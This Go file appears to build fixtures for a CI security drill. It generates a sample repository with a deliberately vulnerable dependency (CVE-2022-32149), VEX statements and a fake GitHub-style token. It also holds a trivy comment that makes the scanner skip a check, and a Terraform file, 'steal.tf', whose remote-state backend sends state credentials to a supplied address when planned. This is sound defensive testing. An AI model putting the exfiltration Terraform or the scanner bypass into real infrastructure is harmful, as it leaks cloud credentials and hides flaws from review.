package drill

import (
	"embed"
	"fmt"
	"io/fs"
	"path"
	"strings"
	"time"

	"slipway/ci/rules"
)

// platform holds the app, the manifests and the Terraform code that the attacks are
// made on. The Go files' names end in .txt, so that they are no part of this
// module.
//
//go:embed platform
var platform embed.FS

// Names of the apps.
const (
	// App has nothing wrong.
	App = "slipway-drill"
	// VulnerableApp is App with a dependency that has a known vulnerability, and an
	// overlay that somebody has patched.
	VulnerableApp = "slipway-drill-vulnerable"
	// Code is the folder of the Terraform code.
	Code = "slipway-drill"
	// Vulnerability is the one of VulnerableApp: golang.org/x/text 0.3.7, HIGH,
	// fixed in 0.3.8 (https://pkg.go.dev/vuln/GO-2022-1059).
	Vulnerability = "CVE-2022-32149"
	// VulnerablePackage is the package that has it.
	VulnerablePackage = "pkg:golang/golang.org/x/text@v0.3.7"
	// IgnoringFile is Terraform code that has nothing wrong. With IgnoringComment on top
	// the scanner would skip a check of it. Of manifests no comment is left to read: what
	// they render to is scanned.
	IgnoringFile    = "infra/" + Code + "/main.tf"
	IgnoringComment = "# trivy:exp:2099-01-01:ignore:AZU-0041\n"
)

// Files are what a platform's repository holds for the drill, by path: the apps,
// their manifests with an overlay for the environment and images of the
// repository, and the Terraform code.
func Files(env, repository string) (map[string]string, error) {
	files := map[string]string{}
	for _, app := range []string{App, VulnerableApp} {
		replace := strings.NewReplacer("APP", app, "ENVIRONMENT", env, "REPOSITORY", repository).Replace
		err := fs.WalkDir(platform, "platform", func(name string, entry fs.DirEntry, err error) error {
			if err != nil || entry.IsDir() {
				return err
			}
			data, err := platform.ReadFile(name)
			if err != nil {
				return err
			}
			at := replace(strings.TrimSuffix(strings.TrimPrefix(name, "platform/"), ".txt"))
			switch top, rest, _ := strings.Cut(at, "/"); top {
			case "app":
				files[path.Join("apps", app, rest)] = replace(string(data))
			case "vulnerable":
				if app == VulnerableApp {
					files[path.Join("apps", app, rest)] = string(data)
				}
			case "gitops":
				files[path.Join("gitops/apps", app, rest)] = replace(string(data))
			case "hostile":
				if app == VulnerableApp {
					files[path.Join("gitops/apps", app, rest)] = replace(string(data))
				}
			case "infra":
				files[path.Join("infra", Code, rest)] = replace(string(data))
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	return files, nil
}

// VEX is an OpenVEX document of VulnerableApp with these statements.
func VEX(statements ...string) (name, text string) {
	return path.Join("apps", VulnerableApp, rules.VEXFile), `{"@context": "https://openvex.dev/ns/v0.2.0", "@id": "https://slipway.drill.example/vex", "author": "drill", "version": 1, "statements": [` +
		strings.Join(statements, ", ") + `]}`
}

// NotAffected is the statement that the image is not affected by its vulnerability in a
// package.
func NotAffected(at time.Time, purl string) string {
	return statement(at, "not_affected", fmt.Sprintf(`, "subcomponents": [{"@id": %q}]`, purl))
}

// Affected is the statement that it is.
func Affected(at time.Time) string { return statement(at, "affected", "") }

func statement(at time.Time, status, packages string) string {
	return fmt.Sprintf(`{"vulnerability": {"name": %q}, "products": [{"@id": "pkg:oci/%s"%s}], "timestamp": %q, "status": %q, "impact_statement": "drill"}`,
		Vulnerability, VulnerableApp, packages, at.UTC().Format(time.RFC3339), status)
}

// Secret is a file with a token of GitHub's form, which opens nothing. It is made here
// so that no source holds one.
func Secret() (name, text string) {
	return path.Join("apps", App, "deploy.env"), "GITHUB_TOKEN=ghp_" + strings.Repeat("aB3dE5fG7h", 4)[:36] + "\n"
}

// Exfiltration is a Terraform file that has the credentials of the state sent to an
// address, as soon as it is planned.
func Exfiltration(address string) (name, text string) {
	return path.Join("infra", Code, "steal.tf"), "data \"terraform_remote_state\" \"stolen\" {\n  backend = \"http\"\n  config  = { address = \"" + address + "/elsewhere\" }\n}\n"
}
